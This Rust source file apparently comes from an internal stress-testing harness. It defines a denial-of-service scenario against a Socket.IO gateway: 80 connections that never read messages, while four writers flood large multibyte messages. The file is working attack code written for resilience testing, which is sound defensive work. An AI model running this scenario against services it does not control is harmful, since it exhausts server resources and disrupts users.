//! Attacks on the gateway of Socket.IO, which has guests without a session.

use std::convert::Infallible;

use anyhow::Result;
use futures_util::FutureExt;
use tokio::task::JoinSet;

use super::Scenario;
use crate::siege::attacker::Attacker;
use crate::siege::web_socket::{handshake, text_frame};

/// Guests that never read.
const GUESTS: usize = 80;
/// Guests that write.
const WRITERS: usize = 4;
/// A text of 3,990 characters, each of three bytes.
const TEXT: (&str, usize) = ("가", 3_990);

/// The attacks of this group.
pub(super) fn scenarios() -> Vec<Scenario> {
    vec![Scenario::new("Socket.IO guests that never read", |attacker| {
        guests_that_never_read(attacker).boxed()
    })]
}

async fn guests_that_never_read(attacker: Attacker) -> Result<Infallible> {
    let (part, count) = TEXT;
    let message = serde_json::json!(["message", part.repeat(count)]);
    let frame = text_frame(&format!("42{message}"));
    let server = attacker.endpoint.address;
    let mut opening = handshake(server, "/socket.io/?EIO=4&transport=websocket", "");
    opening.extend(text_frame("40"));
    let mut attacks = JoinSet::new();
    let (writer, connect) = (attacker.clone(), opening.clone());
    attacks.spawn(async move {
        writer.send_repeatedly(WRITERS, vec![connect], move |_| frame.clone()).await
    });
    attacks.spawn(async move { attacker.hold_some(GUESTS, &opening).await });
    match attacks.join_next().await {
        Some(ended) => ended?,
        None => std::future::pending().await,
    }
}
